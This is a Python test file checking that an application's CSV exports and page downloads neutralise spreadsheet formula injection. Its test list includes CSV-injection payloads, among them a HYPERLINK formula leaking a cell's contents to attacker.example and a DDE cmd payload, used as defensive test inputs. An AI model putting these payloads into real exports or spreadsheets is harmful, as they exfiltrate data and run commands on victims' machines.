"""CSV exports cannot carry spreadsheet formulas (OWASP CSV injection): every text cell that a spreadsheet would
run is made inert, in the call-log export and the pages' CSV downloads."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd

from core import interchange
from core.calllog import CallRecord
from core.exports import neutralise, to_csv

FORMULAS = ['=HYPERLINK("http://attacker.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\t=1", "\r=1"]


def test_formula_cells_are_neutralised_and_numbers_are_not():
    frame = pd.DataFrame({"user": FORMULAS, "n": range(len(FORMULAS)), "delta": [-3.5] * len(FORMULAS)})
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert all(cell.startswith("'") for cell in (r[0] for r in rows[1:]))
    assert rows[1][2] == "-3.5"  # a negative number is data, not a formula
    assert neutralise("plain") == "plain" and neutralise(None) is None


def test_the_call_log_csv_export_is_neutralised(log, tmp_path: Path):
    for i, name in enumerate(FORMULAS):
        log.write(CallRecord(request_id=f"r{i}", ts="2026-11-27T09:00:00+00:00", page="chat", provider="openai",
                             model_requested="=cmd()", model="gpt-4o-mini", status="ok", user=name,
                             tags=["=1+1"]))
    out = tmp_path / "calls.csv"
    assert interchange.export(log, str(out)) == len(FORMULAS)
    rows = list(csv.DictReader(out.open(newline="")))
    cells = [r[k] for r in rows for k in ("user", "model_requested")]
    assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert {r["user"] for r in rows} == {"'" + f for f in FORMULAS}


def test_every_csv_download_on_a_page_goes_through_the_neutraliser():
    """(The Evals page's cases CSV is promptfoo's test format, read back by promptfoo: its values stay literal.)"""
    pages = Path(__file__).resolve().parent.parent / "pages"
    downloads = [line for source in pages.glob("*.py") for line in source.read_text().splitlines()
                 if "download_button(" in line and "csv" in line.lower()]
    assert len(downloads) >= 3
    for line in downloads:
        assert "to_csv(" in line and ".to_csv(" not in line or "tests_to_csv(" in line, line


def test_csv_cells_are_parseable_lists_plain_decimals_and_utc_timestamps():
    import json as _json
    frame = pd.DataFrame({"tags": [["demo", "experiment-42"], []], "cost_usd": [5.1e-05, None],
                          "ts": pd.to_datetime(["2026-11-27 09:00:00.123", "2026-11-27 10:00:00"], format="ISO8601")})
    rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
    assert _json.loads(rows[0]["tags"]) == ["demo", "experiment-42"] and _json.loads(rows[1]["tags"]) == []
    assert rows[0]["cost_usd"] == "0.000051" and rows[1]["cost_usd"] == ""
    assert rows[0]["ts"] == "2026-11-27T09:00:00.123+00:00"
